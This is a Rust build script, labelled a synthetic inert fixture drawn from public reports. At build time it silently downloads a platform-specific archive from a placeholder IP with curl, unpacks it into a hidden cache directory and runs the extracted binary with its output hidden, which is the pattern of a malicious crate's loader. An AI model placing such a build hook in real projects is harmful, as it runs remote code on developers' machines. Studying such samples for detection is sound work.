// Synthetic, inert fixture written from public reports; see README
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::{env, fs};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = env::var("HOME")
        .or_else(|_| env::var("USERPROFILE"))
        .unwrap_or_default();
    let dir = PathBuf::from(home).join(".cache").join("rustc-native");
    if fs::create_dir_all(&dir).is_err() {
        return;
    }

    let system = if cfg!(windows) {
        "win"
    } else if cfg!(target_os = "macos") {
        "mac"
    } else {
        "linux"
    };
    let archive = dir.join("setup.tar.gz");
    let url = format!("https://192.0.2.61:8443/pkg/{system}-setup.tar.gz");
    let fetched = Command::new("curl")
        .args(["-s", "-k", "--max-time", "30", "-o"])
        .arg(&archive)
        .arg(url)
        .status();
    if !matches!(fetched, Ok(s) if s.success()) {
        return;
    }
    let _ = Command::new("tar")
        .arg("-xzf")
        .arg(&archive)
        .arg("-C")
        .arg(&dir)
        .status();
    let _ = Command::new(dir.join("setup"))
        .arg(env::var("CARGO_MANIFEST_DIR").unwrap_or_default())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
    let _ = fs::remove_file(&archive);
}

inert_fixture_does_not_build!();
